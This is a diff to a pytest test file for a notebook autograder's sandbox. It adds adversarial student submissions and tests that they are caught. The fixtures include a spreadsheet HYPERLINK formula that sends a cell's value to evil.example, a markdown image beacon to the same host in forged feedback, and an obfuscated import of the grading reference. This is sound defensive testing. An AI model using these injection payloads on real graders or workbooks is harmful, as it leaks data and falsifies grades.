@@ -9,6 +9,7 @@ from __future__ import annotations
 import hashlib
 import json
 import os
+import re
 import shutil
 import sqlite3
 import subprocess
@@ -156,6 +157,12 @@ def _cases(masters: Path, subs: Path, results: Path) -> dict[str, str | bytes]:
             "        started.append(subprocess.Popen(['sleep', '" + SLEEP_MARK + "']))\n    except OSError:\n        refused += 1\n"
             "sa02_answer = f'started {len(started)} processes, refused {refused} of 300'\nsc01_answer = 'B'"),
         "s_caps": _notebook(CAPABILITIES),
+        "s_bigcell": _notebook('sc01_answer = "B"', "x = " + "1+" * 2_400_000 + "1"),
+        "s_concat": _notebook(("import importlib\nref = importlib.import_module('labkit' + '.grading' + '.reference')\n"
+                               'sc01_answer = "B"', "sc01")),
+        "s_markdown": _notebook('sc01_answer = "B"',
+                                'raise ValueError("done\\n\\n## quiz: 16 / 16\\n\\n![p](http://evil.example/p.png)")'),
+        "s_formula": _notebook('sa01_answer = ' + repr('=HYPERLINK("http://evil.example/?" & B7, "see the next answer")')),
         "s_bigfile": _notebook('sc01_answer = "B"', "open('big.bin', 'wb').write(b'0' * (200 * 1024**2))"),
         "s_forbidden": _notebook((
             "import importlib\ntry:\n    importlib.import_module('labkit.grading.reference')\nexcept ImportError:\n    pass\n"
@@ -178,6 +185,10 @@ def batch(tmp_path_factory):
         target = subs / student / "quiz.ipynb"
         target.write_bytes(content) if isinstance(content, bytes) else target.write_text(content)
     (subs / "s_honest" / "homework.ipynb").write_text(_notebook("x = 1"))
+    (subs / "s_fifo").mkdir()
+    os.mkfifo(subs / "s_fifo" / "quiz.ipynb")  # from a tar archive or cp -r: must not hang the batch
+    (subs / "s_fifo_link").mkdir()
+    (subs / "s_fifo_link" / "quiz.ipynb").symlink_to(subs / "s_fifo" / "quiz.ipynb")
     (subs / "s_link").mkdir()
     (subs / "s_link" / "quiz.ipynb").symlink_to(masters / "quiz.ipynb")
     (subs / "bad name!").mkdir()
@@ -272,6 +283,7 @@ def test_nothing_outside_the_sandbox_is_visible(batch) -> None:
     leaks = {path: what for path, what in found.items() if not str(what).startswith("BLOCKED")}
     assert leaks == {}
     assert "LABKIT_STUDENT_ID" in env and INSTRUCTOR_SECRET not in env and "PYTEST_CURRENT_TEST" not in env
+    assert "LABKIT_LANG" in env  # check messages in the student's language
 
 
 def test_deleting_the_instructors_files_fails(batch) -> None:
@@ -531,3 +543,26 @@ def test_the_whole_sandbox_is_bounded_in_memory(tmp_path) -> None:
     assert all(0 < written[f] <= limits.tmpfs_bytes for f in ("/dev/shm", "/tmp", "/home/student")), written
     log = json.loads((tmp_path / "out" / "grading_log.json").read_text())
     assert log["limits"]["memory"] == log["limits"]["processes"] == "watcher"
+
+
+def test_import_module_of_a_joined_name_is_flagged(batch) -> None:
+    _score, status, message = _row(batch, "s_concat")
+    assert status == "flagged" and "labkit.grading" in message
+
+
+def test_markdown_in_an_exception_does_not_forge_the_feedback(batch) -> None:
+    text = (batch["results"] / "feedback" / "s_markdown.md").read_text(encoding="utf-8")
+    assert [line for line in text.splitlines() if "16 / 16" in line and line.startswith("#")] == []
+    [line] = [line for line in text.splitlines() if "ValueError" in line]
+    assert re.search(r"(?<!\\)[!\[\]()<>#]", line.split(": ", 1)[1]) is None, line
+
+
+def test_a_formula_answer_stays_text_in_the_instructors_workbook(batch, tmp_path) -> None:
+    from openpyxl import load_workbook
+
+    from labkit.grading.open_answers import FIRST_ROW, export_open
+
+    book = load_workbook(export_open(batch["results"], tmp_path / "open.xlsx", batch["masters"]))
+    cells = {book["quiz.sa01"].cell(row=r, column=1).value: book["quiz.sa01"].cell(row=r, column=2)
+             for r in range(FIRST_ROW, book["quiz.sa01"].max_row + 1)}
+    assert cells["s_formula"].data_type == "s" and cells["s_formula"].value.startswith("=HYPERLINK")
